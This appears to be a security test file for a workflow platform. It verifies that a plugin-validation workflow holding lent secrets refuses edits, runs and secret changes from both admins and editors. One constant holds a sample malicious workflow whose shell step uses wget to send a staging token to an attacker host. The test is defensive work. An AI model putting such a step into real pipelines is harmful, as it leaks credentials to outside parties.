/**
 * Attack: while a plugin's validation runs, its system workflow (plugin-validation--<owner>--<name>) holds the
 * secrets lent by the plugin's validation environment. An editor — or an admin — publishes into it a version that
 * posts those secrets elsewhere, runs it by hand or re-runs a validation run, sets or reads its secrets, or edits
 * its draft live over the co-editing socket. Expected: every change and every run of that workflow through the
 * API and co-editing is refused with 403 naming why, nothing about it changes, and validation itself still works.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import WebSocket from 'ws';
import { createUser } from '../../server/services/auth.ts';
import { startValidationRecorder } from '../../server/services/plugin-validation-results.ts';
import { TEST_ADMIN_TOKEN } from '../helpers/api.ts';
import { installExamplePlugin } from '../helpers/plugin-rows.ts';
import { protocolRunner, type ProtocolRunner } from '../helpers/protocol-runner.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

let server: TestServer;
let runner: ProtocolRunner;
let stopRecorder: () => void;
let editorCookie: string;

const PLUGIN = 'acme/locked';
const EXAMPLE = `name: minimal
secrets: [STAGING_TOKEN]
pipelines:
  main:
    runs_on: [docker]
    steps:
      - { name: probe, type: step.log, config: { message: probing } }
`;
const EXFILTRATE = `name: plugin-validation--acme--locked
secrets: [STAGING_TOKEN]
pipelines:
  main:
    runs_on: [docker]
    steps:
      - name: send
        type: step.shell_exec
        config: { image: flowyard/busybox, commands: ['wget -q -O- "http://attacker.invalid/?t={{ .Secrets.STAGING_TOKEN }}"'] }
`;

before(async () => {
  server = await startTestServer();
  runner = await protocolRunner(server, 'validation-lock', ['docker']);
  stopRecorder = startValidationRecorder(server.database.db, server.events);
  await createUser(server.database.db, { email: 'editor@example.com', name: 'editor', role: 'editor', password: 'a long enough password' });
  const login = await fetch(`${server.url}/api/auth/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ email: 'editor@example.com', password: 'a long enough password' }),
  });
  assert.equal(login.status, 200);
  editorCookie = (login.headers.get('set-cookie') ?? '').split(';')[0]!;
});
after(async () => {
  stopRecorder();
  await server.close();
});

async function ok(response: Response, status = 200) {
  assert.equal(response.status, status, await response.clone().text());
  return response.json();
}

/** The same request as the admin (API token) and as an editor (session cookie from our origin). */
function asEditor(method: string, path: string, body?: unknown) {
  return fetch(`${server.url}${path}`, {
    method,
    headers: { cookie: editorCookie, origin: server.url, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
    body: body === undefined ? undefined : JSON.stringify(body),
  });
}

async function refusedForBoth(method: string, path: string, body?: unknown) {
  for (const [who, call] of [
    ['admin', server.call],
    ['editor', asEditor],
  ] as const) {
    const response = await call(method, path, body);
    const text = await response.text();
    assert.equal(response.status, 403, `${who} ${method} ${path}: ${text}`);
    const error = JSON.parse(text).error;
    assert.equal(error.code, 'system_workflow');
    assert.match(error.message, /plugin validation workflow: it runs with the secrets lent by the plugin's validation environment/);
  }
}

function collabStatus(workflowId: string): Promise<number> {
  const socket = new WebSocket(`ws://127.0.0.1:${server.port}/api/collab/${workflowId}`, { headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` } });
  return new Promise<number>((resolve) => {
    socket.on('open', () => {
      socket.terminate();
      resolve(101);
    });
    socket.on('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
    socket.on('error', () => {});
  });
}

const install = (name: string) => installExamplePlugin(server.database.db, name, EXAMPLE);

async function waitForRunEnd(runId: string) {
  for (let i = 0; ; i++) {
    const run = await ok(await server.call('GET', `/api/runs/${runId}`));
    if (!['queued', 'running', 'waiting'].includes(run.state)) return run;
    assert.ok(i < 100, `run ${runId} still ${run.state}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

test('nobody edits, publishes, restores, deletes, runs, re-runs or changes the secrets of a validation workflow; validation still works', async () => {
  await install(PLUGIN);
  const env = await ok(
    await server.call('POST', '/api/environments', { name: 'locked-staging', provider: 'docker', config: {}, secrets: { STAGING_TOKEN: 'token-of-locked' } }),
    201,
  );
  await ok(await server.call('PUT', `/api/plugin-validations/${PLUGIN}/environment`, { environmentId: env.id }));
  const started = await ok(await server.call('POST', `/api/plugin-validations/${PLUGIN}/validate`), 202);
  assert.equal(started.result, 'running');
  const { workflowId } = await ok(await server.call('GET', `/api/runs/${started.runId}`));
  const before = await ok(await server.call('GET', `/api/workflows/${workflowId}`));
  assert.match(before.lockedReason, /^workflow "plugin-validation--acme--locked" is a plugin validation workflow/, 'the editor is told why it is read-only');

  // While the credential is lent (the run is queued): every way to change or run the workflow.
  await refusedForBoth('PUT', `/api/workflows/${workflowId}/draft`, { yaml: EXFILTRATE, baseRevision: before.draftRevision });
  await refusedForBoth('POST', `/api/workflows/${workflowId}/publish`, { yaml: EXFILTRATE });
  await refusedForBoth('POST', `/api/workflows/${workflowId}/versions/1/restore`);
  await refusedForBoth('PUT', `/api/workflows/${workflowId}/secrets/STAGING_TOKEN`, { value: 'replaced' });
  await refusedForBoth('PUT', `/api/workflows/${workflowId}/secrets/OTHER`, { value: 'added' });
  await refusedForBoth('DELETE', `/api/workflows/${workflowId}/secrets/STAGING_TOKEN`);
  await refusedForBoth('POST', `/api/workflows/${workflowId}/runs`, { pipeline: 'main' });
  await refusedForBoth('DELETE', `/api/workflows/${workflowId}`);
  assert.equal(await collabStatus(workflowId), 403, 'co-editing refuses the handshake');

  // Reading and checking change nothing and stay open.
  await ok(await server.call('POST', `/api/workflows/${workflowId}/try-activate`, { yaml: EXFILTRATE }));
  assert.equal((await ok(await asEditor('GET', `/api/workflows/${workflowId}/secrets`))).secrets.length, 1);

  const job = await runner.claim();
  assert.ok(job, 'the validation job');
  assert.equal(job.secrets.STAGING_TOKEN, 'token-of-locked', 'the validation run got the credential, not a replaced one');
  await runner.done(job.jobId, { state: 'succeeded', outputs: {} });
  await waitForRunEnd(started.runId);
  await refusedForBoth('POST', `/api/runs/${started.runId}/rerun`, {});
  assert.equal(await runner.claim(), null, 'no run was queued by any of the refused requests');

  const afterwards = await ok(await server.call('GET', `/api/workflows/${workflowId}`));
  assert.equal(afterwards.draftRevision, before.draftRevision);
  assert.equal(afterwards.activeVersion, before.activeVersion);
  assert.equal((await ok(await server.call('GET', `/api/workflows/${workflowId}/versions`))).versions.length, 1);

  // The validation service itself still publishes, lends and runs.
  const again = await ok(await server.call('POST', `/api/plugin-validations/${PLUGIN}/validate`), 202);
  assert.equal(again.result, 'running');
  assert.equal((await ok(await server.call('GET', `/api/workflows/${workflowId}/versions`))).versions.length, 2);
  const second = await runner.claim();
  assert.equal(second?.secrets.STAGING_TOKEN, 'token-of-locked');
  await runner.done(second!.jobId, { state: 'succeeded', outputs: {} });
  await waitForRunEnd(again.runId);
});

test('a workflow an editor made under a validation name stays theirs to change (it is refused by validation instead)', async () => {
  const created = await ok(
    await asEditor('POST', '/api/workflows', { name: 'plugin-validation--acme--other', yaml: EXAMPLE.replace('name: minimal', 'name: x') }),
    201,
  );
  assert.equal(created.lockedReason, null);
  await ok(await asEditor('PUT', `/api/workflows/${created.id}/draft`, { yaml: EXAMPLE, baseRevision: created.draftRevision }));
  assert.equal((await asEditor('DELETE', `/api/workflows/${created.id}`)).status, 204);
});
